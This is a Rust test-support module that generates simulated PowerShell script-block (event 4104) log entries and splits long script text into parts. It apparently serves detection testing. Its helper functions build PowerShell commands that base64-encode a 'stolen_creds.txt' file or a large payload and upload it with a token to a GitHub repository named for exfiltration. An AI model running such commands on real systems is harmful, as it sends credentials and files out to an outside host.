//! PowerShell's own log of the tests: the text of its script blocks, in parts where it is long.

use std::rc::Rc;

use crate::support::clock::Ticks;
use crate::support::evtx_writer::value::{Guid, Value};
use crate::support::random::Random;
use crate::support::scenarios::event::{Event, pick};
use crate::support::scenarios::host::{Host, Process};
use crate::support::schemas;

/// Characters after which PowerShell begins a new part.
const PART: usize = 15_000;

/// 4104 events.
#[derive(Default)]
pub struct ScriptBlocks {
    pub events: Vec<Event>,
}

impl ScriptBlocks {
    /// A block that `shell` runs now.
    pub fn add(&mut self, host: &Host, shell: &Process, text: &str) {
        let number = u128::try_from(self.events.len()).unwrap_or(0) + 1;
        let activity = Guid::from_number(0x1f6e_90a1_bb10_0001_9c52_6a1f_10bb_dc01 + (number << 64));
        let block = Guid::from_number(0x7be2_48c9_5d31_4f0e_a6d4_2c90_b1f8_3d57 ^ (number << 96)).to_string();
        let block = block.trim_matches(['{', '}']).to_owned();
        let parts: Vec<&str> = parts(text);
        let total = i32::try_from(parts.len()).unwrap_or(0);
        for (number, part) in (1..).zip(parts) {
            let given = [
                ("MessageNumber", Value::Int32(number)),
                ("MessageTotal", Value::Int32(total)),
                ("ScriptBlockText", part.to_owned().into()),
                ("ScriptBlockId", block.clone().into()),
                ("Path", "".into()),
            ];
            self.events.push(Event {
                shape: &schemas::SCRIPT_BLOCK,
                computer: Rc::clone(host.name()),
                time: Ticks(host.now.0 + 811 * u64::try_from(number).unwrap_or(0)),
                process_id: shell.pid,
                thread_id: shell.pid + 308,
                user: Some(host.user_sid()),
                activity: Some(activity),
                values: pick(&schemas::SCRIPT_BLOCK, "", &given),
            });
        }
    }
}

fn parts(text: &str) -> Vec<&str> {
    assert!(text.is_ascii(), "parts are cut by bytes");
    (0..text.len()).step_by(PART).map(|start| &text[start..text.len().min(start + PART)]).collect()
}

/// Test 1's request, as on the command line.
pub fn contents_request(token: &str) -> String {
    format!(
        "$h=@{{Authorization='token {token}'}}; $c=[Convert]::ToBase64String([IO.File]::ReadAllBytes(\
         $env:TEMP+'\\df00tech-exfil\\stolen_creds.txt')); $b=@{{message='sync';content=$c}}|ConvertTo-Json; \
         Invoke-RestMethod -Uri 'https://api.github.com/repos/df00tech-lab/df00tech-exfil/contents/stolen_creds.txt' \
         -Method PUT -Headers $h -Body $b"
    )
}

/// The same with the encoded content in it, too long for one event.
pub fn long_request(token: &str) -> String {
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut random = Random::new(4104);
    let content: String = (0..32_000).map(|_| char::from(*random.choose(digits))).collect();
    format!(
        "$h=@{{Authorization='token {token}'}}\r\n$b=@{{message='sync';content='{content}'}}|ConvertTo-Json\r\n\
         Invoke-RestMethod -Uri 'https://api.github.com/repos/df00tech-lab/df00tech-exfil/contents/loot.bin' \
         -Method PUT -Headers $h -Body $b"
    )
}
